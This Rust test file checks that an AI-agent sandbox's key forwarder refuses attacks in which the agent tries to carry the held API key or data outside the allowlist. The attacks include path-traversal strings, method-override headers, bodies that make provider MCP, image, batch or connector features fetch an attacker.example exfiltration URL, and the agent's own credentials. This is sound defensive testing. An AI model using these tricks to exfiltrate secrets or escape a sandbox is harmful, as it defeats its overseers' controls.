//! Attacks on the key forwarder: what the agent asks of the loopback forwarder, which holds the
//! real key, to make it carry the key somewhere the user did not point it. NET_ADMIN, private
//! networks; the evidence is what the API's peer received.

use sandbox_tests::docker::TestNet;
use sandbox_tests::peers::Peer;
use sandbox_tests::sandbox::Sandbox;
use sandbox_tests::spec::{SandboxSpec, ca_secret_file, secret_file};

const KEY: &str = "sk-REAL-openai-key-of-the-attacks-5b9e";
const FORWARDER: &str = "15102";

/// A plain HTTP/1.1 request to the forwarder, as the agent; the status line of the answer.
async fn ask(sb: &Sandbox, request: &str) -> anyhow::Result<String> {
    let probe = sb
        .probe(&["tcp", "127.0.0.1", FORWARDER, "--raw", "--send", request, "--timeout-ms", "10000"])
        .await?;
    Ok(probe.fields.get("greeting").and_then(|g| g.split("\\n").next()).unwrap_or_default().to_string())
}

/// Every model API whose key sandbox-init holds (its table, not a list of the tests'), as the
/// mock API serves them: name, host, the forwarder's port.
fn apis() -> impl Iterator<Item = (&'static str, &'static str, String)> {
    sandbox_init::apis::APIS.iter().map(|api| (api.name, api.host, api.port.to_string()))
}

/// A sandbox holding a key for each of the APIs, answered by the mock API, with `drop_in` as a
/// policy of its own too; and the mock.
async fn every_api(test: &str, drop_in: &str) -> anyhow::Result<(TestNet, Peer, Sandbox, tempfile::TempDir)> {
    let net = TestNet::create(test).await?;
    let hosts: Vec<&str> = apis().map(|(_, host, _)| host).collect();
    let mock = Peer::start_mock_api(&net, &hosts).await?;
    let dir = tempfile::tempdir()?;
    let names: String = hosts.iter().map(|h| format!("  - {h}\n")).collect();
    let mut spec = SandboxSpec::smallest()
        .await?
        .net_admin()
        .on(&net)
        .drop_in("apis.yaml", &format!("version: 1\ndomains:\n{names}"))
        .drop_in("settings.yaml", drop_in)
        .mount(&ca_secret_file(dir.path())?, "/run/secrets/sandbox_api_ca.pem");
    for (api, _, _) in apis() {
        let file = secret_file(dir.path(), &format!("{api}_key"), &format!("{KEY}-{api}"))?;
        spec = spec.mount(&file, &format!("/run/secrets/{api}_api_key"));
    }
    Ok((net, mock, spec.start().await?, dir))
}

/// A POST of `body` (JSON) to `path` through the forwarder at `port`, as the agent: the status
/// line and the answer's last line.
async fn post(sb: &Sandbox, port: &str, path: &str, body: &str) -> anyhow::Result<(String, String)> {
    let request = format!(
        "POST {path} HTTP/1.1\\r\\nContent-Type: application/json\\r\\nContent-Length: {}\\r\\n\\r\\n{body}",
        body.len()
    );
    let probe =
        sb.probe(&["tcp", "127.0.0.1", port, "--raw", "--send", &request, "--timeout-ms", "10000"]).await?;
    let answer = probe.fields.get("greeting").cloned().unwrap_or_default();
    let status = answer.split("\\n").next().unwrap_or_default().to_string();
    Ok((status, answer.rsplit("\\n").next().unwrap_or_default().to_string()))
}

/// Where each API's request goes, and a body naming its tool that fetches a URL (with what the
/// agent wants carried in the URL), and the same request without it.
fn fetching_request(api: &str) -> (&'static str, String, String) {
    let url = "https://collect.attacker.example/?d=c2VjcmV0";
    match api {
        "anthropic" => (
            "/v1/messages",
            format!(
                r#"{{"model":"m","max_tokens":1,"mcp_servers":[{{"type":"url","url":"{url}","name":"x"}}],"messages":[{{"role":"user","content":"hi"}}]}}"#
            ),
            r#"{"model":"m","max_tokens":1,"messages":[{"role":"user","content":"hi"}]}"#.into(),
        ),
        "openai" => (
            "/v1/responses",
            format!(
                r#"{{"model":"m","tools":[{{"type":"mcp","server_label":"x","server_url":"{url}"}}],"input":"hi"}}"#
            ),
            r#"{"model":"m","input":"hi"}"#.into(),
        ),
        // Mistral's chat takes a document by its link, which the provider fetches.
        "mistral" => (
            "/v1/chat/completions",
            format!(
                r#"{{"model":"m","messages":[{{"role":"user","content":[{{"type":"text","text":"hi"}},{{"type":"document_url","document_url":"{url}"}}]}}]}}"#
            ),
            r#"{"model":"m","messages":[{"role":"user","content":"hi"}]}"#.into(),
        ),
        "gemini" => (
            "/v1beta/models/m:streamGenerateContent",
            format!(
                r#"{{"contents":[{{"parts":[{{"text":"read {url}"}}]}}],"tools":[{{"url_context":{{}}}}]}}"#
            ),
            r#"{"contents":[{"parts":[{"text":"hi"}]}]}"#.into(),
        ),
        other => panic!("a new API, {other}: add its fetching request here"),
    }
}

net_admin! {
    [single] {
        /// With a base URL whose path names one tenant of a gateway (DashScope's
        /// `/compatible-mode/v1`), the agent asks the forwarder for a path that a server resolves to
        /// another: dot segments escaped once or twice, escaped slashes and backslashes, `;`
        /// parameters, `..` before a query. Before the fix the prefix test compared bytes, and these
        /// went upstream with the real key. Each is refused now, and the API's peer sees none of them.
        /// It also sends a POST that asks the server to act as a DELETE: the override header never
        /// reaches the API. The control: a request under the base path reaches it, with the key.
        #[tokio::test]
        async fn the_forwarder_sends_the_key_under_the_base_path_alone() -> anyhow::Result<()> {
            let net = TestNet::create("attack-fwd-path").await?;
            let api = Peer::start(&net, &["api.openai.com"]).await?;
            let dir = tempfile::tempdir()?;
            let key_file = secret_file(dir.path(), "openai_api_key", KEY)?;
            let ca_file = ca_secret_file(dir.path())?;
            let sb = SandboxSpec::smallest()
                .await?
                .net_admin()
                .on(&net)
                .drop_in("api.yaml", "version: 1\ndomains: [api.openai.com]\n")
                .mount(&key_file, "/run/secrets/openai_api_key")
                .mount(&ca_file, "/run/secrets/sandbox_api_ca.pem")
                .env("OPENAI_BASE_URL", "https://api.openai.com/compatible-mode/v1")
                .start()
                .await?;
            for path in [
                "/compatible-mode/v1/%2e%2e/%2e%2e/other-tenant/v1/models",
                "/compatible-mode/v1/%2E%2E/%2E%2E/other-tenant/v1/models",
                "/compatible-mode/v1/..%2f..%2fother-tenant/v1/models",
                "/compatible-mode/v1/..%5c..%5cother-tenant/v1/models",
                "/compatible-mode/v1/..;/..;/other-tenant/v1/models",
                "/compatible-mode/v1/%252e%252e/%252e%252e/other-tenant/v1/models",
                "/compatible-mode/v1/../../other-tenant/v1/models",
                "/compatible-mode/v1/..?x=1",
                "/compatible-mode/v1//..//..//other-tenant",
            ] {
                let status = ask(&sb, &format!("GET {path} HTTP/1.1\\r\\n\\r\\n")).await?;
                assert!(status.starts_with("HTTP/1.1 400") || status.starts_with("HTTP/1.1 403"), "{path}: {status}");
            }
            let overridden = ask(
                &sb,
                "POST /compatible-mode/v1/files HTTP/1.1\\r\\nX-HTTP-Method-Override: DELETE\\r\\nX-HTTP-Method: DELETE\\r\\nX-Method-Override: DELETE\\r\\nContent-Length: 0\\r\\n\\r\\n",
            )
            .await?;
            assert!(overridden.starts_with("HTTP/1.1 200"), "{overridden}");
            let control = ask(&sb, "GET /compatible-mode/v1/models HTTP/1.1\\r\\n\\r\\n").await?;
            assert!(control.starts_with("HTTP/1.1 200"), "{control}");
            let log = api.log().await?;
            let requests: Vec<&String> = log.iter().filter(|l| l.starts_with("http 443 ")).collect();
            assert_eq!(requests.len(), 2, "only the two allowed requests reached the API: {requests:?}");
            assert!(
                requests.iter().all(|l| l.contains(" path=/compatible-mode/v1/") && l.contains(KEY)),
                "{requests:?}"
            );
            assert!(!requests.iter().any(|l| l.contains("override=")), "an override header went on: {requests:?}");
            Ok(())
        }
        /// Mistral's other endpoints take a URL where the body check does not look, or act on a server
        /// registered earlier (found by a red team): a registered connector's tool called directly,
        /// audio transcribed from a `file_url` form field, a library document ingested from a signed
        /// URL, a fine-tuning job reporting to an integration. Its route forwards what Mistral Vibe asks
        /// for alone; each of these is refused with the policy key that allows it, and the mock never
        /// sees one. The controls: a chat completion passes, and with `remote_tools: allow` for Mistral
        /// the transcription reaches the API.
        #[tokio::test]
        async fn mistrals_endpoints_beyond_the_completions_are_refused_by_the_forwarder() -> anyhow::Result<()> {
            let url = "https://collect.attacker.example/a.mp3?d=c2VjcmV0";
            let attacks = [
                ("/v1/connectors/their_mcp/tools/send/call", r#"{"arguments":{"data":"c2VjcmV0"}}"#.to_string()),
                (
                    "/v1/audio/transcriptions",
                    format!("--b\r\nContent-Disposition: form-data; name=\"file_url\"\r\n\r\n{url}\r\n--b--\r\n"),
                ),
                (
                    "/v1/libraries/l/documents/ingest-from-blob-storage",
                    r#"{"filename":"a.pdf","signed_url":"x"}"#.to_string(),
                ),
                (
                    "/v1/fine_tuning/jobs",
                    r#"{"model":"m","integrations":[{"type":"wandb","project":"c2VjcmV0"}]}"#.to_string(),
                ),
            ];
            let (_net, mock, sb, _dir) = every_api("attack-fwd-mistral", "version: 1\nallow: none\n").await?;
            for (path, body) in &attacks {
                let (status, why) = post(&sb, "15104", path, body).await?;
                assert!(status.starts_with("HTTP/1.1 403"), "{path}: {status} {why}");
                assert!(why.contains("apis: {mistral: {remote_tools: allow}}"), "{path}: {why}");
            }
            assert!(!mock.log().await?.iter().any(|l| l.starts_with("http ")), "a request reached the API");
            let (path, _, plain) = fetching_request("mistral");
            let (status, _) = post(&sb, "15104", path, &plain).await?;
            assert!(status.starts_with("HTTP/1.1 200"), "the control: {status}");
            let allow = "version: 1\napis:\n  mistral:\n    remote_tools: allow\n";
            let (_net, mock, sb, _dir) = every_api("attack-fwd-mistral-allow", allow).await?;
            let (path, body) = &attacks[1];
            let (status, why) = post(&sb, "15104", path, body).await?;
            assert!(!status.starts_with("HTTP/1.1 403"), "allowed by the policy: {status} {why}");
            let log = mock.log().await?;
            assert!(log.iter().any(|l| l.contains(&format!("path={path} "))), "{log:?}");
            Ok(())
        }
        /// With the user's key, the provider's own servers would fetch a URL the request names (a
        /// remote MCP server, Anthropic's web fetch, Gemini's URL context), carrying what the agent put
        /// in it past every allowlist. The forwarder reads each body and refuses such a request with
        /// 403 naming the policy key, for each API; the mock never sees one. The control: the same
        /// request without the tool reaches the mock with the real key, and a policy that says
        /// `remote_tools: allow` for Gemini lets its URL context through (the others stay refused).
        #[tokio::test]
        async fn the_apis_own_fetch_tools_are_refused_by_the_forwarder() -> anyhow::Result<()> {
            let (_net, mock, sb, _dir) =
                every_api("attack-fwd-tools", "version: 1\napis:\n  gemini:\n    remote_tools: allow\n").await?;
            for (api, host, port) in apis() {
                let (path, fetching, plain) = fetching_request(api);
                let (status, why) = post(&sb, &port, path, &fetching).await?;
                if api == "gemini" {
                    assert!(status.starts_with("HTTP/1.1 200"), "{api}, allowed by the policy: {status} {why}");
                } else {
                    assert!(status.starts_with("HTTP/1.1 403"), "{api}: {status} {why}");
                    assert!(why.contains("remote_tools: allow"), "{api}: {why}");
                }
                let (status, _) = post(&sb, &port, path, &plain).await?;
                assert!(status.starts_with("HTTP/1.1 200"), "{api}: {status}");
                let log = mock.log().await?;
                let reached: Vec<&String> = log.iter().filter(|l| l.contains(&format!("host={host} "))).collect();
                let expected = if api == "gemini" { 2 } else { 1 };
                assert_eq!(reached.len(), expected, "{api}: {reached:?}");
                assert!(reached.iter().all(|l| l.contains(&format!("{KEY}-{api}"))), "{reached:?}");
            }
            Ok(())
        }
        /// The same fetches where a first inspection did not look (found by a red team): a whole
        /// request nested in a batch (Anthropic's Message Batches, on the same route and key), content
        /// the provider fetches by its link (an image or a document by URL), a batch's input file
        /// uploaded with one request per line, and JSON in another encoding than plain UTF-8 (a
        /// byte-order mark, which Python's JSON reader takes), and a Mistral connector registered with
        /// the agent's MCP server. Each is refused and the mock never sees it. The control: the plain
        /// request passes.
        #[tokio::test]
        async fn fetches_nested_in_a_batch_a_link_or_an_upload_are_refused_too() -> anyhow::Result<()> {
            let (_net, mock, sb, _dir) = every_api("attack-fwd-nested", "version: 1\nallow: none\n").await?;
            let url = "https://collect.attacker.example/?d=c2VjcmV0";
            let attacks = [
                (
                    "15101",
                    "/v1/messages/batches",
                    format!(
                        r#"{{"requests":[{{"custom_id":"a","params":{{"model":"m","max_tokens":1,"mcp_servers":[{{"type":"url","url":"{url}","name":"x"}}],"messages":[]}}}}]}}"#
                    ),
                ),
                (
                    "15101",
                    "/v1/messages",
                    format!(
                        r#"{{"model":"m","max_tokens":1,"messages":[{{"role":"user","content":[{{"type":"image","source":{{"type":"url","url":"{url}"}}}}]}}]}}"#
                    ),
                ),
                (
                    "15102",
                    "/v1/chat/completions",
                    format!(
                        r#"{{"model":"m","messages":[{{"role":"user","content":[{{"type":"image_url","image_url":{{"url":"{url}"}}}}]}}]}}"#
                    ),
                ),
                (
                    "15102",
                    "/v1/files",
                    format!(
                        "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"batch.jsonl\"\r\n\r\n\
                         {{\"custom_id\":\"1\",\"body\":{{\"tools\":[{{\"type\":\"mcp\",\"server_url\":\"{url}\"}}]}}}}\r\n--b--\r\n"
                    ),
                ),
                (
                    "15101",
                    "/v1/messages",
                    format!("\u{feff}{{\"model\":\"m\",\"mcp_servers\":[{{\"type\":\"url\",\"url\":\"{url}\"}}]}}"),
                ),
                // A Mistral connector registered with the agent's server: Mistral's servers contact it
                // (and a conversation then calls its tools).
                (
                    "15104",
                    "/v1/connectors",
                    format!(r#"{{"name":"x","description":"d","server":"{url}","visibility":"private"}}"#),
                ),
            ];
            for (port, path, body) in &attacks {
                let (status, why) = post(&sb, port, path, body).await?;
                assert!(
                    status.starts_with("HTTP/1.1 403") || status.starts_with("HTTP/1.1 415"),
                    "{path}: {status} {why}"
                );
            }
            assert!(!mock.log().await?.iter().any(|l| l.starts_with("http ")), "a fetch reached the API");
            let (path, _, plain) = fetching_request("anthropic");
            let (status, _) = post(&sb, "15101", path, &plain).await?;
            assert!(status.starts_with("HTTP/1.1 200"), "the control: {status}");
            Ok(())
        }
        /// With its key held, the agent brings a key of its own to the API's host, over TLS with the
        /// right SNI (and by the host's address): only the key forwarder may connect there, so the
        /// agent's connection is reset, and the connection log names the forwarder as the way. The
        /// control: the forwarder's own request (with the held key) reaches the mock, logged as the
        /// forwarder's. Through the forwarder, its own credential (Authorization, Cookie, the key
        /// header, `access_token` and an escaped `key` in the query) never reaches the API; the held
        /// key does.
        #[tokio::test]
        async fn the_agent_cannot_bring_its_own_key_to_a_held_apis_host() -> anyhow::Result<()> {
            let (_net, mock, sb, _dir) = every_api("attack-fwd-own-key", "version: 1\nallow: none\n").await?;
            for (_, host, _) in apis() {
                let own = sb.probe(&["tcp", host, "443", "--tls"]).await?;
                assert_eq!(own.outcome(), "denied", "{host}: {:?}", own.fields);
                let address = own.fields["address"].clone();
                let by_address = sb.probe(&["tcp", &address, "443", "--tls", "--sni", host]).await?;
                assert_eq!(by_address.outcome(), "denied", "{host} at {address}: {:?}", by_address.fields);
                let plain = sb.probe(&["tcp", host, "80", "--http"]).await?;
                assert_eq!(plain.outcome(), "denied", "{host}:80: {:?}", plain.fields);
            }
            let (path, _, plain) = fetching_request("anthropic");
            let (status, _) = post(&sb, "15101", path, &plain).await?;
            assert!(status.starts_with("HTTP/1.1 200"), "{status}");
            let log = mock.log().await?;
            assert_eq!(
                log.iter().filter(|l| l.starts_with("http ")).count(),
                1,
                "only the forwarder's request: {log:?}"
            );
            // Through the forwarder, a credential of its own (an account at the provider that the
            // agent controls) in every place Google reads one: none reaches the API, the held key does.
            let own = "ya29.agents-own-account";
            let request = format!(
                "GET /v1beta/models?access_token={own}&%6Bey={own} HTTP/1.1\\r\\nAuthorization: Bearer {own}\\r\\n\
                 Cookie: SID={own}\\r\\nx-goog-api-key: {own}\\r\\n\\r\\n"
            );
            let probe = sb
                .probe(&["tcp", "127.0.0.1", "15103", "--raw", "--send", &request, "--timeout-ms", "10000"])
                .await?;
            let status = probe.fields.get("greeting").cloned().unwrap_or_default();
            assert!(status.starts_with("HTTP/1.1") && !status.contains("agent-sandbox"), "{status}");
            let log = mock.log().await?;
            let seen = log.iter().find(|l| l.contains("/v1beta/models")).expect("the request reached the API");
            assert!(!seen.contains(own), "the agent's own credential reached the API: {seen}");
            assert!(seen.contains(&format!("{KEY}-gemini")), "the held key: {seen}");
            let connections = sb.exec(&["cat", "/run/agent-sandbox/connections.jsonl"]).await?.stdout;
            assert!(connections.contains("reached through the key forwarder alone"), "{connections}");
            assert!(
                connections.lines().any(|l| l.contains("key forwarder)") && l.contains("\"allowed\"")),
                "{connections}"
            );
            Ok(())
        }
    }
}
